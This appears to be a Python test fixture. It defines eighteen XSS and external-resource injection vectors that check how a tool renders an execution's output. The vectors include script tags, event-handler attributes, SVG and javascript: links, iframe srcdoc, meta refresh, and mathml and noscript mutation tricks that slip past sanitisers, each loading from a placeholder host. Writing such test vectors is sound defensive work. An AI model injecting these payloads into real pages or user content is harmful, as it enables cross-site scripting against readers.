"""What somebody could write to attack who reads an execution's output (F27)."""

FOREIGN = "foreign.invalid"
"""Every vector that loads something loads it from here."""
SCRIPT = "window.attacked=true"

VECTORS = {
    "script": f"<script>{SCRIPT}</script>",
    "foreign script": f'<script src="https://{FOREIGN}/a.js"></script>',
    "image handler": f'<img src="https://{FOREIGN}/a.png" onerror="{SCRIPT}">',
    "svg handler": f'<svg onload="{SCRIPT}"><circle r="9"/></svg>',
    "svg script": f'<svg><script href="data:text/javascript,{SCRIPT}"></script></svg>',
    "svg animation": f'<svg><a xlink:href="javascript:{SCRIPT}"><animate attributeName="href" '
    f'values="javascript:{SCRIPT}" begin="0s"/><text y="20">x</text></a></svg>',
    "mathml mutation": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={SCRIPT}&gt;">',
    "noscript mutation": f'<noscript><p title="</noscript><img src=x onerror={SCRIPT}>">',
    "style": f"<style>@import 'https://{FOREIGN}/a.css'; body{{background:url("
    f"https://{FOREIGN}/b.png)}}</style>",
    "style attribute": f'<div style="background:url(https://{FOREIGN}/c.png)">x</div>',
    "frame": f'<iframe src="https://{FOREIGN}/"></iframe>',
    "frame with a document": f'<iframe srcdoc="<script>parent.{SCRIPT}</script>"></iframe>',
    "object": f'<object data="https://{FOREIGN}/a.swf"></object>'
    f'<embed src="https://{FOREIGN}/b.swf">',
    "form": f'<form action="https://{FOREIGN}/"><input autofocus onfocus="{SCRIPT}" name="p">'
    '<button formaction="javascript:1">Sign in</button></form>',
    "javascript link": f'<a href="jav&#x09;ascript:{SCRIPT}" autofocus onfocus="{SCRIPT}">x</a>'
    f"\n\n[y](javascript:{SCRIPT}) [z](data:text/html,<script>{SCRIPT}</script>)",
    "base and refresh": f'<base href="https://{FOREIGN}/"><meta http-equiv="refresh" '
    f'content="0;url=https://{FOREIGN}/"><link rel="stylesheet" href="https://{FOREIGN}/d.css">',
    "media": f'<video src="https://{FOREIGN}/a.mp4" autoplay onloadstart="{SCRIPT}"></video>'
    f'<audio src="https://{FOREIGN}/a.mp3" autoplay onerror="{SCRIPT}"></audio>'
    f'<details open ontoggle="{SCRIPT}">x</details>',
    "markdown": f"![x](https://{FOREIGN}/m.png)\n\n![][r]\n\n[r]: https://{FOREIGN}/n.png\n\n"
    f'<x onclick={SCRIPT} id=logout name=cookie class="menu">y</x> '
    f'<p id="attributes" onpointerenter="{SCRIPT}">z',
}
"""The eighteen of security-reliability.md 5.4. Each is tried as Markdown, HTML and text."""
